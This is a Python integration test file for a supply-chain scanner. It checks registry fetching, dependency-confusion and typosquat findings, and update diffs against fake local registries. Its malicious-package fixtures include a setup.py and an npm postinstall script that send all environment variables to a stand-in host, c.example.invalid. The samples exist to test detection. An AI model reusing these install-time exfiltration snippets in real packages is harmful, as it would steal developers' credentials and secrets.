"""vet/diff against a real HTTP registry on 127.0.0.1 (PEP 691 + npm packuments)."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from chainwarden.analyzers import VetOptions, review_update, vet
from chainwarden.analyzers.confusion import InternalName, check_claims
from chainwarden.analyzers.registry_client import RegistryClient, RegistryClientError
from chainwarden.cli import main
from chainwarden.config import Config, Internal
from chainwarden.models import Ecosystem, Finding, Inventory, Severity, TargetInfo
from integration.fake_registry import FakeRegistry, build_npm_tarball, build_sdist, build_wheel, serve

pytestmark = pytest.mark.integration

MALICIOUS_SETUP = (
    "import os, json, urllib.request\nfrom setuptools import setup\n"
    "urllib.request.urlopen('https://c.example.invalid/e', data=json.dumps(dict(os.environ)).encode())\n"
    "setup(name='acme-tools', version='9.0')\n"
)


@pytest.fixture
def registry() -> Iterator[FakeRegistry]:
    with serve() as running:
        # PyPI: a benign library, someone else's squat of our internal name, our own claimed name
        running.add_pypi(*build_sdist("tidy-lib", "1.0", {"setup.py": "from setuptools import setup\nsetup()\n"}))
        running.add_pypi(*build_sdist("acme-tools", "9.0", {"setup.py": MALICIOUS_SETUP}))
        ours = build_wheel("acme-placeholder", "0.0.1", {"acme_placeholder/__init__.py": ""})
        running.add_pypi(*ours)
        running.add_pypi(*ours, index="private")
        running.add_pypi(*build_wheel("acme-placeholder", "2.0", {"acme_placeholder/__init__.py": ""}), index="private")
        # npm: two versions of a package whose patch release adds an install hook and a new publisher
        old = build_npm_tarball("flat-util", "1.0.0", {"index.js": "module.exports = 1;\n"}, {})
        new = build_npm_tarball(
            "flat-util",
            "1.0.1",
            {
                "index.js": "module.exports = 1;\n",
                "install.js": "const https = require('https');\n"
                "https.get('https://c.example.invalid/?e=' + JSON.stringify(process.env));\n",
            },
            {"scripts": {"postinstall": "node install.js"}, "dependencies": {"lodahs": "^1.0.0"}},
        )
        running.add_npm("flat-util", "1.0.0", old, maintainers=("alice",))
        running.add_npm("flat-util", "1.0.1", new, maintainers=("alice", "mallory"), publisher="mallory")
        running.add_npm("@acme/ui", "3.0.0", build_npm_tarball("@acme/ui", "3.0.0", {}, {}), maintainers=("acme-bot",))
        running.add_npm(
            "acme-internal", "5.0.0", build_npm_tarball("acme-internal", "5.0.0", {}, {}), maintainers=("eve",)
        )
        yield running


@pytest.fixture
def client(registry: FakeRegistry, tmp_path: Path) -> Iterator[RegistryClient]:
    with RegistryClient(
        pypi_url=registry.pypi_url, npm_url=registry.npm_url, cache_dir=tmp_path / "cache", backoff=0.01
    ) as c:
        yield c


def options(registry: FakeRegistry, tmp_path: Path, **extra: object) -> VetOptions:
    return VetOptions(pypi_url=registry.pypi_url, npm_url=registry.npm_url, cache_dir=tmp_path / "cache", **extra)  # type: ignore[arg-type]


# -- registry client ---------------------------------------------------------------------


def test_pep691_project_page_and_cache(client: RegistryClient, registry: FakeRegistry) -> None:
    project = client.pypi_project("Tidy_Lib")
    assert project is not None
    assert project.versions == ("1.0",)
    assert project.files[0].sha256
    assert client.pypi_project("does-not-exist") is None
    count = len(registry.requests)
    assert client.pypi_project("tidy-lib") is not None
    assert len(registry.requests) == count  # served from the on-disk cache


def test_retries_transient_errors(client: RegistryClient, registry: FakeRegistry) -> None:
    registry.fail["/npm/flat-util"] = 2
    packument = client.npm_packument("flat-util")
    assert packument is not None and "1.0.1" in packument["versions"]
    registry.fail["/simple/tidy-lib/"] = 10
    client.use_cache = False
    with pytest.raises(RegistryClientError, match="HTTP 503"):
        client.pypi_project("tidy-lib")


def test_download_verifies_hashes(client: RegistryClient, registry: FakeRegistry, tmp_path: Path) -> None:
    path = client.download_pypi("tidy-lib", "1.0", tmp_path / "dl")
    assert path.name == "tidy-lib-1.0.tar.gz"
    blob = next(k for k in registry.blobs if k.endswith("tidy-lib-1.0.tar.gz"))
    registry.blobs[blob] = b"tampered"
    with pytest.raises(RegistryClientError, match="sha256"):
        client.download_pypi("tidy-lib", "1.0", tmp_path / "dl2")


def test_unreachable_registry_is_a_network_error(tmp_path: Path) -> None:
    with (
        RegistryClient(pypi_url="http://127.0.0.1:9/simple", retries=0, timeout=2, cache_dir=tmp_path) as dead,
        pytest.raises(RegistryClientError) as info,
    ):
        dead.pypi_project("x")
    assert "127.0.0.1:9" in info.value.diagnostics()


# -- vet: downloads, scanning, claims ---------------------------------------------------------


def test_vet_downloads_and_scans_pypi_and_npm_versions(registry: FakeRegistry, tmp_path: Path) -> None:
    result = vet(["pypi:acme-tools==9.0", "npm:flat-util@1.0.1"], options=options(registry, tmp_path))
    assert result.artifacts_scanned == 2
    worst = {f.package.name: f.severity for f in result.findings if f.package and f.severity is Severity.CRITICAL}
    assert set(worst) == {"acme-tools", "flat-util"}


def test_claim_outcomes(registry: FakeRegistry, client: RegistryClient) -> None:
    config = Config(
        internal=Internal(patterns=("acme-*",), scopes=("@acme",), pypi_index=registry.private_pypi_url()),
        raw={"internal": {"owners": ["acme-bot"]}},
    )
    items = [
        InternalName(Ecosystem.PYPI, "acme-tools", "1.4"),
        InternalName(Ecosystem.PYPI, "acme-unregistered", "1.0"),
        InternalName(Ecosystem.PYPI, "acme-placeholder", None),
        InternalName(Ecosystem.NPM, "@acme/ui", "1.0.0"),
        InternalName(Ecosystem.NPM, "acme-internal", "9.0.0"),
    ]
    outcomes = {r.item.name: r for r in check_claims(items, client, config)}
    assert outcomes["acme-tools"].outcome == "claimed"
    assert outcomes["acme-tools"].public_latest == "9.0"
    assert outcomes["acme-unregistered"].outcome == "unclaimed"
    assert outcomes["acme-placeholder"].outcome == "claimed-by-you"  # same file hashes as the private index
    assert outcomes["@acme/ui"].outcome == "claimed-by-you"  # maintained by an owner account
    assert outcomes["acme-internal"].outcome == "claimed"
    assert outcomes["acme-internal"].maintainers == frozenset({"eve"})


def test_vet_project_confusion_end_to_end(registry: FakeRegistry, tmp_path: Path) -> None:
    project = tmp_path / "proj"
    project.mkdir()
    (project / "requirements.txt").write_text(
        f"--extra-index-url {registry.private_pypi_url()}\nacme-tools==1.4\nacme-unregistered==1.0\n"
    )
    (project / ".npmrc").write_text("registry=https://registry.npmjs.org/\n")
    (project / "package.json").write_text(json.dumps({"dependencies": {"acme-internal": "^9.0.0"}}))
    config = Config(internal=Internal(patterns=("acme-*",)))

    def inventory(_: str) -> Inventory:
        from chainwarden.analyzers.typosquat import bare_package

        return Inventory(
            TargetInfo("dir", str(project)),
            (
                bare_package(Ecosystem.PYPI, "acme-tools", "1.4"),
                bare_package(Ecosystem.PYPI, "acme-unregistered", "1.0"),
            ),
        )

    result = vet([str(project)], config=config, options=options(registry, tmp_path), inventory_builder=inventory)
    by_rule: dict[str, list[str]] = {}
    for finding in result.findings:
        by_rule.setdefault(finding.rule_id, []).append(finding.title)
    assert "dependency-confusion-extra-index" in by_rule
    assert "dependency-confusion-unscoped-internal" in by_rule
    claimed = next(
        f
        for f in result.findings
        if f.rule_id == "dependency-confusion-claimed" and f.package and f.package.name == "acme-tools"
    )
    assert claimed.severity is Severity.CRITICAL
    assert "higher version 9.0" in claimed.title
    assert any(f.rule_id == "dependency-confusion-unclaimed" for f in result.findings)
    # internal names are never reported as typosquats of public ones
    assert not any(f.rule_id == "typosquat" for f in result.findings)


def test_typosquat_by_the_anchors_own_maintainers_is_not_reported(registry: FakeRegistry, tmp_path: Path) -> None:
    registry.add_npm("lodash", "4.17.21", build_npm_tarball("lodash", "4.17.21", {}, {}), maintainers=("jdalton",))
    registry.add_npm("lodahs", "1.0.0", build_npm_tarball("lodahs", "1.0.0", {}, {}), maintainers=("jdalton",))
    registry.add_npm("axois", "1.0.0", build_npm_tarball("axois", "1.0.0", {}, {}), maintainers=("mallory",))
    registry.add_npm("axios", "1.0.0", build_npm_tarball("axios", "1.0.0", {}, {}), maintainers=("jasonsaayman",))
    result = vet(["npm:lodahs", "npm:axois"], options=options(registry, tmp_path))
    assert {f.package.name for f in result.findings if f.package and f.rule_id == "typosquat"} == {"axois"}


# -- diff ------------------------------------------------------------------------------------


def test_diff_flags_event_stream_pattern(registry: FakeRegistry, tmp_path: Path) -> None:
    report = review_update("npm:flat-util@1.0.0..1.0.1", options=options(registry, tmp_path))
    assert report.bump == "patch"
    assert report.verdict == "block"
    rules: dict[str, Finding] = {f.rule_id: f for f in report.findings}
    assert rules["update-new-install-hook"].severity is Severity.HIGH
    assert rules["update-new-capability"].severity is Severity.HIGH
    assert rules["update-maintainers-changed"].severity is Severity.HIGH
    assert any("mallory" in e for e in rules["update-maintainers-changed"].evidence)
    dependency = rules["update-new-dependency"]
    assert dependency.severity is Severity.HIGH and any("typosquat of lodash" in e for e in dependency.evidence)
    assert "install.js" in report.added_files


def test_diff_of_identical_versions_is_ok(registry: FakeRegistry, tmp_path: Path) -> None:
    report = review_update("npm:flat-util@1.0.0", "npm:flat-util@1.0.0", options=options(registry, tmp_path))
    assert report.verdict == "ok"
    assert [f.rule_id for f in report.findings] == ["update-verdict"]


# -- CLI ---------------------------------------------------------------------------------------


def test_cli_vet_exit_codes_and_json(
    registry: FakeRegistry, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    monkeypatch.chdir(tmp_path)
    args = ["vet", "--pypi-url", registry.pypi_url, "--npm-url", registry.npm_url]
    assert main([*args, "pypi:tidy-lib==1.0", "--fail-on", "high"]) == 0
    capsys.readouterr()
    assert main([*args, "pypi:acme-tools==9.0", "--fail-on", "high", "-f", "json"]) == 1
    document = json.loads(capsys.readouterr().out)
    assert document["command"] == "vet"
    assert document["summary"]["by_severity"]["critical"] >= 1
    assert main([*args, "pypi:tidy-lib==7.7"]) == 2
    assert "no files for this version" in capsys.readouterr().err


def test_cli_diff_sarif(
    registry: FakeRegistry, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    monkeypatch.chdir(tmp_path)
    code = main(
        ["diff", "npm:flat-util@1.0.0..1.0.1", "--npm-url", registry.npm_url, "-f", "sarif", "--fail-on", "high"]
    )
    assert code == 1
    log = json.loads(capsys.readouterr().out)
    levels = {r["ruleId"]: r["level"] for r in log["runs"][0]["results"]}
    assert levels["update-new-install-hook"] == "error"
